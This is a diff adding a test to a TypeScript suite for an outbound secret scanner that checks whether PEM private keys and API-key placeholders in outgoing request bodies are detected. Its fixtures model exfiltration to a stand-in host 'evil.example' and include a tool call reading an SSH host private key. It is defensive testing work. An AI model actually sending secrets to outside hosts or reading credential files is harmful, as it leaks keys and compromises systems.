@@ -122,6 +122,18 @@ test('a placeholder word inside a long random key does not hide it; a delimited 
   assert.equal(scanner.scan(outbound('evil.example:443', 'body', 'sk-ant-api03-your-fake-key-for-the-docs-page-goes-here-and-is-long-enough-to-pass-AA')).length, 0);
 });
 
+test('four x in a row inside a long random key (chance: about 1 PEM body in 650) do not hide it; a template does', () => {
+  const body = (seed: string, xs: string): string => {
+    const b64 = fakeToken(seed, 1600, B64URL).replace(/[-_]/g, 'A');
+    const lines = (b64.slice(0, 800) + xs + b64.slice(800)).match(/.{1,64}/g) ?? [];
+    return ['-----BEGIN ' + 'PRIVATE KEY-----', ...lines, '-----END ' + 'PRIVATE KEY-----'].join('\n');
+  };
+  const lucky = scanner.scan(outbound('evil.example:443', 'body', body('pem-lucky', 'xXxx')));
+  assert.ok(lucky.some((f) => f.pattern === 'private_key_pem' && f.severity === 'critical'), JSON.stringify(lucky.map((f) => [f.rule_id, f.severity])));
+  const short = fake('sk-', 'ant-', 'api03-', 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx');
+  assert.equal(scanner.scan(outbound('evil.example:443', 'body', short)).length, 0, 'a short x template is a placeholder');
+});
+
 test('path findings show the path itself in the snippet', () => {
   const [f] = scanner.scan(outbound('evil.example:443', 'body', '{"tool":"read_file","path":"/etc/ssh/ssh_host_ed25519_key"}'));
   assert.ok(f, 'found');
